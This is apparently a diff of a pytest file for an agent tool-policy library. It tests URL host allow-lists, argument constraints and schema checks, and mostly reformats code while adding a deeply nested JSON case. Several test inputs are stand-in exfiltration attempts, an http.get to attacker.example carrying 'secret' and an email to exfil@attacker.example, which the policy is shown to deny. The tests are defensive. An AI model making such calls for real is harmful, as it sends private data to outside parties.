@@ -28,8 +28,15 @@ class Fetcher:
 
 
 def constrained(rule: dict[str, Any], **tools: Any) -> corral.Policy:
-    return P({"tools": {"allow": ["http.get"], **tools,
-                        "specs": {"http.get": {"constraints": {"url": rule}}}}})
+    return P(
+        {
+            "tools": {
+                "allow": ["http.get"],
+                **tools,
+                "specs": {"http.get": {"constraints": {"url": rule}}},
+            }
+        }
+    )
 
 
 URL_RULE = {"schemes": ["https"], "hosts": ["docs.example.com", "*.good.example"]}
@@ -58,6 +65,7 @@ def search(query: str, limit: int = 5) -> str:
         ('{"query": "x"', "not valid JSON"),
         ('["x"]', "must be a JSON object, got list"),
         ({"query": None}, "query"),
+        ("[" * 100_000, "nested too deeply"),
     ],
 )
 def test_invalid_arguments_are_handed_back_to_the_model(store, args, problem):
@@ -104,8 +112,9 @@ def test_an_explicit_json_schema_replaces_the_type_hints(store):
         seen.append(kwargs)
         return "12 left"
 
-    with corral.Run(P({"tools": {"allow": ["stock.read"], "max_invalid_args": 5}}), tools=[stock],
-                    store=store) as run:
+    with corral.Run(
+        P({"tools": {"allow": ["stock.read"], "max_invalid_args": 5}}), tools=[stock], store=store
+    ) as run:
         for bad in ({"sku": "abc-1"}, {}, {"sku": "ABC-1", "extra": 1}, {"sku": 5}):
             with pytest.raises(corral.ToolRejected):
                 run.call("stock.read", bad)
@@ -208,8 +217,9 @@ def test_urls_outside_the_constraints_are_denied_before_anything_is_reserved(sto
 def test_a_constraint_denial_can_be_handed_back_to_the_model(store):
     """With ``on_denied: tell_model`` the model hears why, and may fix the URL."""
     fetcher = Fetcher()
-    with corral.Run(constrained(URL_RULE, on_denied="tell_model"), tools=[fetcher.tool],
-                    store=store) as run:
+    with corral.Run(
+        constrained(URL_RULE, on_denied="tell_model"), tools=[fetcher.tool], store=store
+    ) as run:
         with pytest.raises(corral.ToolRejected) as rejected:
             run.call("http.get", {"url": "https://attacker.example/?q=secret"})
         assert rejected.value.detail == "argument_not_allowed"
@@ -246,8 +256,16 @@ def test_a_url_constraint_on_a_non_string_value_denies_it(store):
 
 
 def limited(constraints: dict[str, Any]) -> corral.Policy:
-    return P({"tools": {"allow": ["pay.read"], "on_denied": "tell_model", "max_invalid_args": 99,
-                        "specs": {"pay.read": {"constraints": constraints}}}})
+    return P(
+        {
+            "tools": {
+                "allow": ["pay.read"],
+                "on_denied": "tell_model",
+                "max_invalid_args": 99,
+                "specs": {"pay.read": {"constraints": constraints}},
+            }
+        }
+    )
 
 
 class Payments:
@@ -257,8 +275,13 @@ class Payments:
         self.seen: list[dict[str, Any]] = []
 
         @corral.tool(name="pay.read", effect="read")
-        def pay(amount: float = 1, currency: Any = "EUR", memo: str = "", tags: list[str] | None = None,
-                exact: Decimal = Decimal(1)) -> str:
+        def pay(
+            amount: float = 1,
+            currency: Any = "EUR",
+            memo: str = "",
+            tags: list[str] | None = None,
+            exact: Decimal = Decimal(1),
+        ) -> str:
             self.seen.append({"amount": amount, "currency": currency, "memo": memo})
             return "ok"
 
@@ -318,7 +341,9 @@ def test_enum_constraints_do_not_confuse_booleans_and_numbers(store):
 )
 def test_range_constraints(store, amount, expected):
     """``min`` / ``max`` bound a number; NaN and infinities are never within a range."""
-    assert _outcome(limited({"amount": {"min": 1, "max": 100}}), {"amount": amount}, store) == expected
+    assert (
+        _outcome(limited({"amount": {"min": 1, "max": 100}}), {"amount": amount}, store) == expected
+    )
 
 
 def test_range_constraints_accept_decimals(store):
@@ -369,8 +394,15 @@ def test_a_denied_argument_holds_no_budget_and_asks_no_approval(store):
     def send(to: str) -> str:
         return "sent"
 
-    policy = P({"tools": {"allow": ["mail.send"], "specs": {"mail.send": {
-        "constraints": {"to": {"pattern": r"[^@]+@example\.com"}}}}}, "budgets": {"max_usd": 1}})
+    policy = P(
+        {
+            "tools": {
+                "allow": ["mail.send"],
+                "specs": {"mail.send": {"constraints": {"to": {"pattern": r"[^@]+@example\.com"}}}},
+            },
+            "budgets": {"max_usd": 1},
+        }
+    )
     with corral.Run(policy, tools=[send], store=store, approver=asked.append) as run:
         run.call("mail.send", {"to": "exfil@attacker.example"})
     assert run.result.stop.extra["why"] == "argument_not_allowed"
@@ -380,8 +412,19 @@ def test_a_denied_argument_holds_no_budget_and_asks_no_approval(store):
 
 def test_a_policy_args_schema_narrows_what_the_code_accepts(store):
     """``tools.specs.<name>.args_schema`` is enforced on top of the tool's own schema."""
-    policy = P({"tools": {"allow": ["search.read"], "max_invalid_args": 5, "specs": {"search.read": {
-        "args_schema": {"type": "object", "properties": {"limit": {"maximum": 10}}}}}}})
+    policy = P(
+        {
+            "tools": {
+                "allow": ["search.read"],
+                "max_invalid_args": 5,
+                "specs": {
+                    "search.read": {
+                        "args_schema": {"type": "object", "properties": {"limit": {"maximum": 10}}}
+                    }
+                },
+            }
+        }
+    )
     with corral.Run(policy, tools=[search], store=store) as run:
         with pytest.raises(corral.ToolRejected) as rejected:
             run.call("search.read", {"query": "x", "limit": 50})
@@ -392,7 +435,13 @@ def test_a_policy_args_schema_narrows_what_the_code_accepts(store):
 def test_a_constraint_on_an_argument_the_tool_does_not_take_is_a_config_error(store):
     """A misspelt argument in ``constraints`` would never apply: it fails at start."""
     fetcher = Fetcher()
-    policy = P({"tools": {"allow": ["http.get"], "specs": {"http.get": {
-        "constraints": {"uri": {"hosts": ["docs.example.com"]}}}}}})
+    policy = P(
+        {
+            "tools": {
+                "allow": ["http.get"],
+                "specs": {"http.get": {"constraints": {"uri": {"hosts": ["docs.example.com"]}}}},
+            }
+        }
+    )
     with pytest.raises(corral.ConfigError, match=r"tools\.specs\.http\.get\.constraints\.uri"):
         corral.Run(policy, tools=[fetcher.tool], store=store)
